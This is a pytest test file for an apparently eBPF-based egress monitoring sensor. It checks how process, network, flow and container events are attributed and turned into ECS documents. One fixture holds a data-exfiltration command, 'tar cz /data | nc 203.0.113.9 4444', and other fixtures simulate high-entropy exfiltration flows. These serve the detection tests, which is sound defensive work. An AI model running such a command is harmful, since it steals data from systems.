@@ -1,0 +1,511 @@
+"""Pipeline driven by a ReplaySource: raw records + kernel flow counters ->
+attributed ECS documents and window summaries."""
+
+from __future__ import annotations
+
+import json
+import os
+import random
+import re
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from sensor import ecs
+from sensor import events as E
+from sensor.attribution import Attributor
+from sensor.cgroups import CgroupResolver
+from sensor.counters import FlowCounters, WindowCounters
+from sensor.docker_api import DockerClient
+from sensor.pipeline import Pipeline
+from sensor.source import ReplaySource
+
+from _records import (
+    NS, cgroup_rec, connect_rec, dns_query, exec_args_rec, exec_rec, exit_rec, sample_rec,
+    tls_client_hello, to_wall,
+)
+
+A = "a0" * 32          # a running docker container (cgroupfs driver)
+B = "b1" * 32          # a container started while the sensor runs (systemd driver)
+PID = 5_000_123        # above PID_MAX_LIMIT: never a real process on this host
+PID2 = 5_000_456
+RNG = random.Random(1)
+TEXT = (b"The quick brown fox jumps over the lazy dog while the committee reviews "
+        b"the quarterly report about database backups and their retention policy. ")
+
+ISO_Z = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")
+
+
+@dataclass
+class World:
+    pipe: Pipeline
+    docs: list[dict[str, Any]]
+    resolver: CgroupResolver
+    attributor: Attributor
+    cg: int          # cgroup id of container A
+    cg_sub: int      # a sub-cgroup inside container A
+    host_cg: int     # a host service cgroup
+
+    def by_action(self, action: str) -> list[dict[str, Any]]:
+        return [d for d in self.docs if d["event"]["action"] == action]
+
+
+def make_world(tmp_path: Path, docker_sock: str, events: bool = True) -> World:
+    root = tmp_path / "cg"
+    cdir = root / "docker" / A
+    sub = cdir / "app"
+    hdir = root / "system.slice" / "cron.service"
+    for d in (sub, hdir):
+        d.mkdir(parents=True)
+    resolver = CgroupResolver(str(root), rescan_interval=3600)
+    cg, cg_sub, host_cg = (os.stat(d).st_ino for d in (cdir, sub, hdir))
+    resolver.learn(cg, f"/docker/{A}")
+    resolver.learn(cg_sub, f"/docker/{A}/app")
+    resolver.learn(host_cg, "/system.slice/cron.service")
+    attributor = Attributor(resolver, DockerClient(docker_sock, 2.0))
+    docs: list[dict[str, Any]] = []
+    pipe = Pipeline(attributor, docs.append, "test-host", events, to_wall)
+    return World(pipe, docs, resolver, attributor, cg, cg_sub, host_cg)
+
+
+@pytest.fixture
+def world(tmp_path: Path, fake_docker) -> World:
+    fake_docker.add(A, "exfil-test", "alpine:3.20", "sha256:" + "a" * 64,
+                    {"io.kubernetes.pod.name": "db-0", "io.kubernetes.pod.namespace": "data"})
+    fake_docker.add(B, "late-starter", "busybox:1.36", "sha256:" + "b" * 64)
+    return make_world(tmp_path, fake_docker.socket_path)
+
+
+def replay(w: World, records: list[bytes], windows: list[list[FlowCounters]] = ()) -> ReplaySource:
+    src = ReplaySource(records, windows)
+    assert src.start(w.pipe.handle_raw) == {"replay": "attached"}
+    assert src.poll(0) == len(records)
+    return src
+
+
+def flow(cg: int, daddr: str, dport: int, proto: int, nbytes: int, payload: int, packets: int = 10,
+         connects: int = 1, samples: int = 0) -> FlowCounters:
+    return FlowCounters(cg, daddr, dport, proto, nbytes, packets, payload, connects, 1, 2, samples)
+
+
+def check_ecs(doc: dict[str, Any]) -> None:
+    """ECS basics every document must satisfy."""
+    json.dumps(doc)  # plain JSON types only (no sets, bytes, dataclasses)
+    assert ISO_Z.match(doc["@timestamp"]), doc["@timestamp"]
+    assert doc["@timestamp"].endswith("Z")
+    assert doc["ecs"]["version"] == ecs.ECS_VERSION
+    ev = doc["event"]
+    assert ev["kind"] == "event"
+    assert isinstance(ev["category"], list) and ev["category"]
+    assert isinstance(ev["type"], list) and ev["type"]
+    assert ev["module"] == "sluice"
+    assert ev["dataset"].startswith("sluice.")
+    assert isinstance(ev["action"], str)
+    for k in ("start", "end"):
+        if k in ev:
+            assert ISO_Z.match(ev[k])
+    assert doc["host"]["name"] == "test-host"
+    assert doc["agent"]["type"] == "sluice"
+    assert doc["sluice"]["attribution"] in ("host", "container")
+    if doc["sluice"]["attribution"] == "container":
+        assert re.fullmatch(r"[0-9a-f]{64}", doc["container"]["id"])
+    else:
+        assert "container" not in doc
+
+
+def check_all(w: World) -> None:
+    assert w.docs, "no documents"
+    for d in w.docs:
+        check_ecs(d)
+    assert w.pipe.counts["documents"] == len(w.docs)
+
+
+# --- processes ---------------------------------------------------------------
+
+
+def test_exec_event_gives_one_process_start_document(world: World) -> None:
+    me = os.getpid()  # args come from /proc/<pid>/cmdline (the default procfs mode)
+    with open(f"/proc/{me}/cmdline", "rb") as f:
+        cmdline = [a.decode() for a in f.read().rstrip(b"\0").split(b"\0")]
+    replay(world, [exec_rec(pid=me, cgroup_id=world.cg, ktime_ns=2 * NS, comm=b"python3",
+                            filename=b"/usr/bin/python3.11", ppid=4_999_999)])
+    check_all(world)
+    assert len(world.docs) == 1
+    d = world.docs[0]
+    assert d["event"]["action"] == "exec"
+    assert d["event"]["category"] == ["process"] and d["event"]["type"] == ["start"]
+    assert d["event"]["dataset"] == "sluice.process"
+    assert d["@timestamp"] == ecs.iso(to_wall(2 * NS))
+    p = d["process"]
+    assert p["pid"] == me and p["name"] == "python3" and p["executable"] == "/usr/bin/python3.11"
+    assert p["parent"] == {"pid": 4_999_999}
+    assert p["args"] == cmdline and p["args_count"] == len(cmdline)
+    assert p["command_line"] == " ".join(cmdline)
+    assert p["start"] == d["@timestamp"]
+    assert d["sluice"]["process"]["args_source"] == "procfs"
+    # container fields from the cgroup path and the engine
+    assert d["sluice"]["attribution"] == "container"
+    assert d["sluice"]["cgroup"] == {"id": world.cg, "path": f"/docker/{A}"}
+    assert d["container"]["id"] == A and d["container"]["runtime"] == "docker"
+    assert d["container"]["name"] == "exfil-test"
+    assert d["container"]["image"] == {"name": "alpine:3.20", "hash": {"all": ["sha256:" + "a" * 64]}}
+    assert d["orchestrator"]["resource"]["name"] == "db-0"
+    assert d["orchestrator"]["namespace"] == "data"
+    assert world.pipe.counts["exec"] == 1
+
+
+def test_exec_args_from_tracepoint_become_process_args(world: World) -> None:
+    argv = [b"sh", b"-c", b"tar cz /data | nc 203.0.113.9 4444"]
+    replay(world, [
+        exec_args_rec(pid=PID, cgroup_id=world.cg, args=argv, ktime_ns=NS),
+        exec_rec(pid=PID, cgroup_id=world.cg, ktime_ns=NS + 1000, comm=b"sh", filename=b"/bin/sh"),
+    ])
+    check_all(world)
+    (d,) = world.by_action("exec")
+    assert d["sluice"]["process"]["args_source"] == "tracepoint"
+    assert d["process"]["args"] == [a.decode() for a in argv]
+    assert d["process"]["command_line"] == "sh -c tar cz /data | nc 203.0.113.9 4444"
+    assert world.pipe.counts["exec_args"] == 1
+
+
+def test_exec_without_args_anywhere(world: World) -> None:
+    replay(world, [exec_rec(pid=PID, cgroup_id=world.host_cg, comm=b"gone", filename=b"/bin/gone")])
+    check_all(world)
+    (d,) = world.docs
+    assert d["sluice"]["process"]["args_source"] == "unavailable"
+    assert "args" not in d["process"] and "parent" not in d["process"]
+    assert d["sluice"]["attribution"] == "host"
+    assert d["sluice"]["cgroup"]["path"] == "/system.slice/cron.service"
+
+
+def test_exit_document_has_duration(world: World) -> None:
+    replay(world, [
+        exec_rec(pid=PID, cgroup_id=world.cg, ktime_ns=1 * NS, comm=b"sleep", filename=b"/bin/sleep"),
+        exit_rec(pid=PID, cgroup_id=world.cg, ktime_ns=4 * NS + 250_000_000, comm=b"sleep"),
+    ])
+    check_all(world)
+    (d,) = world.by_action("exit")
+    assert d["event"]["type"] == ["end"]
+    assert d["event"]["duration"] == 3_250_000_000
+    assert d["process"]["start"] == ecs.iso(to_wall(NS))
+    assert d["process"]["end"] == ecs.iso(to_wall(4 * NS + 250_000_000))
+    assert PID not in world.pipe.procs
+
+
+# --- network -----------------------------------------------------------------
+
+
+def test_connect_documents(world: World) -> None:
+    replay(world, [
+        connect_rec(pid=PID, cgroup_id=world.cg, daddr="198.51.100.7", dport=443, protocol=6,
+                    comm=b"curl", cookie=77, ktime_ns=NS),
+        connect_rec(pid=PID, cgroup_id=world.cg, daddr="2001:db8::53", dport=53, protocol=17,
+                    comm=b"dig", op=E.CONNECT_OP_SENDMSG, family=10, ktime_ns=NS),
+    ])
+    check_all(world)
+    tcp, udp = world.docs
+    assert tcp["event"]["action"] == "connection_attempted"
+    assert tcp["event"]["category"] == ["network"] and tcp["event"]["type"] == ["connection", "start"]
+    assert tcp["destination"] == {"ip": "198.51.100.7", "port": 443, "address": "198.51.100.7"}
+    assert tcp["network"] == {"transport": "tcp", "direction": "egress", "type": "ipv4"}
+    assert tcp["process"]["pid"] == PID and tcp["process"]["name"] == "curl"
+    assert tcp["sluice"]["socket"] == {"cookie": 77}
+    assert udp["event"]["action"] == "udp_send"
+    assert udp["network"]["type"] == "ipv6" and udp["network"]["transport"] == "udp"
+
+
+def _tls_flow_records(w: World) -> list[bytes]:
+    recs = [
+        exec_rec(pid=PID, cgroup_id=w.cg, ktime_ns=NS, comm=b"curl", filename=b"/usr/bin/curl"),
+        connect_rec(pid=PID, cgroup_id=w.cg, daddr="198.51.100.7", dport=443, comm=b"curl", ktime_ns=NS),
+        sample_rec(w.cg, "198.51.100.7", 443, tls_client_hello(), flags=E.SAMPLE_F_SOCK_START,
+                   sock_pkt_index=0),
+    ]
+    recs += [sample_rec(w.cg, "198.51.100.7", 443, RNG.randbytes(128), sock_pkt_index=64 * i)
+             for i in range(1, 9)]
+    return recs
+
+
+def test_flow_summary_joins_kernel_counters_samples_and_process(world: World) -> None:
+    fc = flow(world.cg, "198.51.100.7", 443, 6, nbytes=1_234_567, payload=1_200_000, packets=900,
+              connects=1, samples=9)
+    src = replay(world, _tls_flow_records(world), [[fc]])
+    summaries, per = world.pipe.close_window(src.drain_flows(), to_wall(0), to_wall(10 * NS))
+    check_all(world)
+    (d,) = world.by_action("flow_summary")
+    assert d["event"]["dataset"] == "sluice.flow"
+    assert d["event"]["category"] == ["network"] and d["event"]["type"] == ["info"]
+    assert d["@timestamp"] == ecs.iso(to_wall(10 * NS))
+    assert d["event"]["start"] == ecs.iso(to_wall(0)) and d["event"]["end"] == ecs.iso(to_wall(10 * NS))
+    assert d["sluice"]["window"] == {"start": ecs.iso(to_wall(0)), "end": ecs.iso(to_wall(10 * NS))}
+    assert d["source"] == {"bytes": 1_234_567, "packets": 900}
+    assert d["destination"] == {"ip": "198.51.100.7", "port": 443, "address": "198.51.100.7"}
+    assert d["network"] == {"transport": "tcp", "direction": "egress", "type": "ipv4", "protocol": "tls"}
+    pay = d["sluice"]["payload"]
+    assert pay["bytes"] == 1_200_000 and pay["samples"] == 9
+    assert pay["sampled_bytes"] == len(tls_client_hello()) + 8 * 128
+    assert pay["entropy"] > 7.0
+    assert d["sluice"]["flow"] == {"connections": 1}
+    # process from the preceding connect (and the exec before it)
+    assert d["process"]["pid"] == PID and d["process"]["name"] == "curl"
+    assert d["process"]["executable"] == "/usr/bin/curl"
+    assert d["container"]["id"] == A and d["container"]["name"] == "exfil-test"
+    (s,) = summaries
+    assert s.bytes == 1_234_567 and s.high_entropy and s.protocol_hint == "tls" and s.pid == PID
+
+
+def test_protocol_hint_only_from_the_first_packet(world: World) -> None:
+    get = b"GET /exfil HTTP/1.1\r\nHost: x\r\n\r\n"
+    recs = [
+        # first packet of the socket: hinted
+        sample_rec(world.cg, "192.0.2.1", 8080, get, flags=E.SAMPLE_F_SOCK_START, sock_pkt_index=0),
+        # a later start-of-socket packet and a rate sample: not hinted
+        sample_rec(world.cg, "192.0.2.2", 8080, get, flags=E.SAMPLE_F_SOCK_START, sock_pkt_index=3),
+        sample_rec(world.cg, "192.0.2.3", 8080, get, flags=0, sock_pkt_index=0),
+        # a TLS-looking later packet does not override the first hint
+        sample_rec(world.cg, "192.0.2.1", 8080, tls_client_hello(), flags=E.SAMPLE_F_SOCK_START,
+                   sock_pkt_index=1),
+    ]
+    replay(world, recs)
+    world.pipe.close_window([], to_wall(0), to_wall(NS))
+    check_all(world)
+    proto = {d["destination"]["ip"]: d["network"].get("protocol") for d in world.by_action("flow_summary")}
+    assert proto == {"192.0.2.1": "http", "192.0.2.2": None, "192.0.2.3": None}
+
+
+def test_dns_hint_from_any_sample_to_port_53(world: World) -> None:
+    replay(world, [sample_rec(world.cg, "10.0.0.53", 53, dns_query("x.example.net"), protocol=17,
+                              flags=0, sock_pkt_index=40)])
+    world.pipe.close_window([flow(world.cg, "10.0.0.53", 53, 17, 100, 72)], to_wall(0), to_wall(NS))
+    check_all(world)
+    (d,) = world.by_action("flow_summary")
+    assert d["network"]["protocol"] == "dns" and d["network"]["transport"] == "udp"
+
+
+def test_samples_without_kernel_counters_still_summarised(world: World) -> None:
+    replay(world, [sample_rec(world.cg, "203.0.113.5", 9000, RNG.randbytes(128)) for _ in range(2)])
+    summaries, _ = world.pipe.close_window([], to_wall(0), to_wall(NS))
+    check_all(world)
+    (d,) = world.by_action("flow_summary")
+    assert d["source"] == {"bytes": 0, "packets": 0}
+    assert d["sluice"]["payload"]["sampled_bytes"] == 256
+    assert "entropy" in d["sluice"]["payload"]
+
+
+def test_both_generations_are_summed(world: World) -> None:
+    f1 = flow(world.cg, "198.51.100.9", 22, 6, nbytes=1000, payload=800, packets=5, connects=1)
+    f2 = flow(world.cg, "198.51.100.9", 22, 6, nbytes=300, payload=200, packets=2, connects=0)
+    world.pipe.close_window([f1, f2], to_wall(0), to_wall(NS))
+    (d,) = world.by_action("flow_summary")
+    assert d["source"] == {"bytes": 1300, "packets": 7}
+    assert d["sluice"]["payload"]["bytes"] == 1000
+    assert d["sluice"]["flow"]["connections"] == 1
+
+
+def test_window_resets_after_close(world: World) -> None:
+    replay(world, _tls_flow_records(world))
+    world.pipe.close_window([], to_wall(0), to_wall(NS))
+    world.docs.clear()
+    summaries, per = world.pipe.close_window([], to_wall(NS), to_wall(2 * NS))
+    assert summaries == [] and per == {}
+    assert world.docs == []
+    assert world.pipe.counts["windows"] == 2
+
+
+# --- container summaries -------------------------------------------------------
+
+
+def test_container_summary_aggregates_flows(world: World) -> None:
+    recs = [
+        exec_rec(pid=PID, cgroup_id=world.cg, comm=b"tar", filename=b"/bin/tar"),
+        exec_rec(pid=PID2, cgroup_id=world.cg_sub, comm=b"nc", filename=b"/bin/nc"),
+        exec_rec(pid=PID2 + 1, cgroup_id=world.host_cg, comm=b"cron", filename=b"/usr/sbin/cron"),
+    ]
+    # high-entropy flow from the container's own cgroup
+    recs += [sample_rec(world.cg, "203.0.113.9", 4444, RNG.randbytes(128)) for _ in range(8)]
+    # low-entropy flow from a sub-cgroup of the same container
+    recs += [sample_rec(world.cg_sub, "192.0.2.80", 80, TEXT[:128]) for _ in range(2)]
+    flows = [
+        flow(world.cg, "203.0.113.9", 4444, 6, nbytes=5_000_000, payload=4_800_000, packets=3500, connects=1),
+        flow(world.cg_sub, "192.0.2.80", 80, 6, nbytes=20_000, payload=15_000, packets=20, connects=2),
+        flow(world.host_cg, "192.0.2.123", 123, 17, nbytes=900, payload=480, packets=10, connects=0),
+    ]
+    replay(world, recs)
+    summaries, per = world.pipe.close_window(flows, to_wall(0), to_wall(10 * NS))
+    check_all(world)
+
+    assert set(per) == {A, "host"}
+    assert per[A].bytes == 5_020_000
+    assert per[A].high_entropy_bytes == 4_800_000
+    assert per[A].cgroup_ids == {world.cg, world.cg_sub}
+    assert per["host"].bytes == 900
+
+    docs = {d["sluice"]["attribution"]: d for d in world.by_action("container_summary")}
+    assert set(docs) == {"container", "host"}
+    c = docs["container"]
+    assert c["event"]["dataset"] == "sluice.container"
+    assert c["container"]["id"] == A and c["container"]["name"] == "exfil-test"
+    assert c["source"] == {"bytes": 5_020_000, "packets": 3520}
+    assert c["sluice"]["payload"]["bytes"] == 4_815_000
+    assert c["sluice"]["payload"]["high_entropy_bytes"] == 4_800_000
+    assert c["sluice"]["payload"]["sampled_bytes"] == 8 * 128 + 2 * 128
+    assert 5.5 < c["sluice"]["payload"]["entropy"] < 8.0
+    w = c["sluice"]["window"]
+    assert (w["connections"], w["execs"], w["flows"], w["destinations"]) == (3, 2, 2, 2)
+    h = docs["host"]
+    assert "container" not in h
+    assert h["source"] == {"bytes": 900, "packets": 10}
+    assert h["sluice"]["payload"]["high_entropy_bytes"] == 0
+    assert h["sluice"]["window"]["execs"] == 1
+    assert len(world.by_action("flow_summary")) == 3
+
+    top = world.pipe.top
+    assert [r["container"] for r in top] == [A[:12], "host"]
+    assert top[0]["name"] == "exfil-test" and top[0]["image"] == "alpine:3.20"
+    assert top[0]["bytes_per_s"] == pytest.approx(502_000.0)
+    assert top[0]["execs"] == 2 and top[0]["n_destinations"] == 2
+    assert top[0]["destinations"] == ["192.0.2.80:80", "203.0.113.9:4444"]
+
+
+def test_execs_alone_make_a_container_summary(world: World) -> None:
+    replay(world, [exec_rec(pid=PID, cgroup_id=world.cg, comm=b"id", filename=b"/usr/bin/id")])
+    _, per = world.pipe.close_window([], to_wall(0), to_wall(NS))
+    assert per[A].execs == 1 and per[A].bytes == 0
+    (c,) = world.by_action("container_summary")
+    assert c["sluice"]["window"]["execs"] == 1
+    assert "entropy" not in c["sluice"]["payload"]
+
+
+# --- container lifecycle -------------------------------------------------------
+
+
+def test_container_start_and_stop_with_lifetime(world: World) -> None:
+    scope = f"/system.slice/docker-{B}.scope".encode()
+    cgid = 9_100_001
+    replay(world, [
+        cgroup_rec(E.CGROUP_MKDIR, cgid, scope, ktime_ns=1 * NS),
+        cgroup_rec(E.CGROUP_MKDIR, cgid + 1, scope + b"/init.scope", ktime_ns=1 * NS + 5),  # sub-cgroup
+        cgroup_rec(E.CGROUP_MKDIR, cgid + 2, b"/system.slice/foo.service", ktime_ns=1 * NS + 6),
+        cgroup_rec(E.CGROUP_RMDIR, cgid + 1, scope + b"/init.scope", ktime_ns=6 * NS),
+        cgroup_rec(E.CGROUP_RMDIR, cgid, scope, ktime_ns=6 * NS + 500_000_000),
+    ])
+    check_all(world)
+    (start,) = world.by_action("container_start")
+    (stop,) = world.by_action("container_stop")
+    assert len(world.docs) == 2  # nothing for the sub-cgroup or the host service
+    assert start["event"]["category"] == ["host"] and start["event"]["type"] == ["start"]
+    assert start["event"]["dataset"] == "sluice.container"
+    assert start["@timestamp"] == ecs.iso(to_wall(NS))
+    assert start["container"]["id"] == B and start["container"]["name"] == "late-starter"
+    assert start["container"]["image"]["name"] == "busybox:1.36"
+    assert start["sluice"]["cgroup"] == {"id": cgid, "path": scope.decode()}
+    assert stop["event"]["category"] == ["host"] and stop["event"]["type"] == ["end"]
+    assert stop["@timestamp"] == ecs.iso(to_wall(6 * NS + 500_000_000))
+    assert stop["container"]["id"] == B and stop["container"]["name"] == "late-starter"
+    assert stop["event"]["start"] == ecs.iso(to_wall(NS))
+    assert stop["event"]["end"] == ecs.iso(to_wall(6 * NS + 500_000_000))
+    assert stop["event"]["duration"] == 5_500_000_000
+    assert stop["sluice"]["container"] == {"lifetime_seconds": 5.5}
+    assert world.pipe.containers == {}
+    assert dict(world.resolver.items())[cgid + 2] == "/system.slice/foo.service"
+    assert world.pipe.counts["cgroup"] == 5
+
+
+def test_stopped_container_bytes_of_its_last_window_stay_attributed(world: World, fake_docker) -> None:
+    scope = f"/system.slice/docker-{B}.scope"
+    cgid = 9_200_001
+    replay(world, [
+        cgroup_rec(E.CGROUP_MKDIR, cgid, scope.encode(), ktime_ns=NS),
+        sample_rec(cgid, "203.0.113.66", 443, tls_client_hello(), flags=E.SAMPLE_F_SOCK_START,
+                   sock_pkt_index=0),
+        cgroup_rec(E.CGROUP_RMDIR, cgid, scope.encode(), ktime_ns=2 * NS),
+    ])
+    _, per = world.pipe.close_window([flow(cgid, "203.0.113.66", 443, 6, 4096, 3000)],
+                                     to_wall(0), to_wall(3 * NS))
+    check_all(world)
+    (d,) = world.by_action("flow_summary")
+    assert d["container"]["id"] == B and d["container"]["name"] == "late-starter"
+    assert d["sluice"]["cgroup"]["path"] == scope
+    assert per[B].bytes == 4096
+    # forgotten once that window is summarised
+    assert cgid not in dict(world.resolver.items())
+    assert B not in world.attributor._containers
+    assert len([r for r in fake_docker.requests if B in r]) == 1
+
+
+def test_sub_cgroup_removal_keeps_the_running_container(world: World, fake_docker) -> None:
+    scope = f"/system.slice/docker-{B}.scope"
+    cgid = 9_300_001
+    replay(world, [
+        cgroup_rec(E.CGROUP_MKDIR, cgid, scope.encode(), ktime_ns=NS),
+        cgroup_rec(E.CGROUP_MKDIR, cgid + 1, f"{scope}/payload".encode(), ktime_ns=NS + 1),
+        cgroup_rec(E.CGROUP_RMDIR, cgid + 1, f"{scope}/payload".encode(), ktime_ns=2 * NS),
+    ])
+    world.pipe.close_window([], to_wall(0), to_wall(3 * NS))
+    assert B in world.pipe.containers and world.pipe.containers[B].cgroup_id == cgid
+    assert cgid + 1 not in dict(world.resolver.items())
+    # the container still runs: its metadata stays cached, no new engine request
+    a = world.attributor.attribute(cgid)
+    assert a.container is not None and a.container.name == "late-starter"
+    assert a.container is world.pipe.containers[B].info
+    assert len([r for r in fake_docker.requests if B in r]) == 1
+
+
+def test_existing_container_stop_has_no_lifetime(world: World) -> None:
+    world.pipe.note_existing_containers()
+    assert set(world.pipe.containers) == {A}
+    assert world.pipe.containers[A].cgroup_id == world.cg
+    assert world.pipe.containers[A].started is None
+    replay(world, [cgroup_rec(E.CGROUP_RMDIR, world.cg, f"/docker/{A}".encode(), ktime_ns=NS)])
+    check_all(world)
+    (stop,) = world.by_action("container_stop")
+    assert stop["container"]["id"] == A
+    assert "duration" not in stop["event"] and "container" not in stop["sluice"]
+
+
+# --- telemetry off, errors -------------------------------------------------------
+
+
+def test_events_false_emits_no_telemetry(tmp_path: Path, fake_docker) -> None:
+    fake_docker.add(A, "exfil-test", "alpine:3.20", "sha256:1")
+    w = make_world(tmp_path, fake_docker.socket_path, events=False)
+    recs = _tls_flow_records(w) + [
+        exit_rec(pid=PID, cgroup_id=w.cg, ktime_ns=3 * NS),
+        cgroup_rec(E.CGROUP_MKDIR, 777, f"/system.slice/docker-{B}.scope".encode(), ktime_ns=NS),
+        cgroup_rec(E.CGROUP_RMDIR, 777, f"/system.slice/docker-{B}.scope".encode(), ktime_ns=2 * NS),
+    ]
+    replay(w, recs)
+    summaries, per = w.pipe.close_window([flow(w.cg, "198.51.100.7", 443, 6, 1000, 900)],
+                                         to_wall(0), to_wall(NS))
+    assert w.docs == []
+    assert w.pipe.counts["documents"] == 0
+    # counting still happens
+    assert len(summaries) == 1 and summaries[0].protocol_hint == "tls"
+    assert per[A].bytes == 1000 and per[A].execs == 1
+    assert w.pipe.top and w.pipe.top[0]["container"] == A[:12]
+    assert w.pipe.counts["exec"] == 1 and w.pipe.counts["sample"] == 9 and w.pipe.counts["cgroup"] == 2
+
+
+def test_decode_errors_are_counted(world: World) -> None:
+    bad_type = E.encode(E.EventHeader(type=42)) + b"\0" * 64
+    short = exec_rec(pid=PID, cgroup_id=world.cg)[:100]
+    replay(world, [b"\x01\x00", bad_type, short,
+                   exec_rec(pid=PID, cgroup_id=world.cg, comm=b"ok", filename=b"/bin/ok")])
+    assert world.pipe.counts["decode_errors"] == 3
+    assert world.pipe.counts["events"] == 4
+    assert world.pipe.counts["exec"] == 1
+    assert "exec record of 100 bytes" in world.pipe.last_decode_error
+    assert len(world.by_action("exec")) == 1
+
+
+def test_window_counters_owner_and_protocol_memory_is_bounded() -> None:
+    wc = WindowCounters(max_flows=3)
+    for i in range(5):
+        key = (1, f"10.0.0.{i}", 80, 6)
+        wc.set_owner(key, i, "p")
+        wc.add_sample(key, b"x", "http")
+    assert len(wc.owners) == 3 and len(wc.protocols) == 3
+    assert (1, "10.0.0.0", 80, 6) not in wc.owners
+    assert wc.owners[(1, "10.0.0.4", 80, 6)] == (4, "p")
